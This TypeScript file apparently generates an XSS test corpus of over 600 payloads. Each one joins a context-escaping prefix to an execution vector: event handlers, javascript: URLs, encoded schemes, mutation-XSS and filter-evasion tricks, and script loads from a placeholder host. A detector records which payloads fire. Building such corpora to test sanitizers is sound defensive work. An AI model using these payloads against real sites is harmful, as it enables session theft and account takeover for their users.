/** Called by every payload that runs; the page's detector defines it. */
const CALL = "xssFired";
const BEACON = "https://xss.invalid/beacon";

/** Ways out of the place where a text may have been put: an attribute, a comment, a raw-text element, a script. */
const BREAKS = [
  "",
  '">',
  "'>",
  "`>",
  "-->",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "]]>",
  "</svg></math>",
  "</td></table></select>",
  "</p></li></ul>",
];

/** Ways to run code, each with its own call. */
function vectors(call: string): string[] {
  const entities = `javascript:${call}`.replaceAll(/./gu, (letter) => `&#${letter.codePointAt(0) ?? 0};`);
  return [
    `<script>${call}</script>`,
    `<ScRiPt>${call}</sCrIpT>`,
    `<script/x>${call}</script>`,
    `<scr<script>ipt>${call}</script>`,
    `<script src=data:text/javascript,${call}></script>`,
    `<script src=${BEACON}></script>`,
    `<img src=x onerror=${call}>`,
    `<img/src="x"/onerror=${call}>`,
    `<img src=x:x onerror\n=${call}>`,
    `<IMG SRC=x OnErRoR=${call}>`,
    `<img src=${BEACON}>`,
    `<img src=x onerror=&#${(call.codePointAt(0) ?? 0).toString()};${call.slice(1)}>`,
    `<svg onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
    `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
    `<body onload=${call}>`,
    `<iframe src="javascript:${call}"></iframe>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<iframe src=${BEACON}></iframe>`,
    `<object data="javascript:${call}"></object>`,
    `<embed src="javascript:${call}">`,
    `<video src=x onerror=${call}></video>`,
    `<video><source onerror=${call}></video>`,
    `<audio src=x onerror=${call}></audio>`,
    `<details open ontoggle=${call}>x</details>`,
    `<input autofocus onfocus=${call}>`,
    `<textarea autofocus onfocus=${call}></textarea>`,
    `<select autofocus onfocus=${call}></select>`,
    `<p tabindex=0 autofocus onfocus=${call}>x</p>`,
    `<marquee onstart=${call}>x</marquee>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${call}>x</p>`,
    `<style>@import url(${BEACON});</style>`,
    `<p style="background:url(${BEACON})">x</p>`,
    `<link rel=stylesheet href=${BEACON}>`,
    `<link rel=prefetch href=${BEACON}>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<base href=https://xss.invalid/>`,
    `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
    `<a href="${entities}">x</a>`,
    `<a href="java\nscript:${call}">x</a>`,
    `<form><button formaction="javascript:${call}" autofocus onfocus=${call}>x</button></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    `<a title="</title><img src=x onerror=${call}>">x</a>`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `javascript:${call}`,
  ];
}

/** More than 600 texts that would run code, or fetch something, where a text is put into a page as it is. */
export const PAYLOADS: readonly string[] = BREAKS.flatMap((out, at) =>
  vectors(`${CALL}(${at})`).map((vector) => out + vector),
);

/** What has run or been fetched because of a payload. To be installed before any page script. */
export const DETECTOR = `window.fired = []; window.${CALL} = (n) => { window.fired.push("call " + n); };`;
/** Address that payloads fetch; nobody answers there. */
export const BEACON_HOST = "xss.invalid";
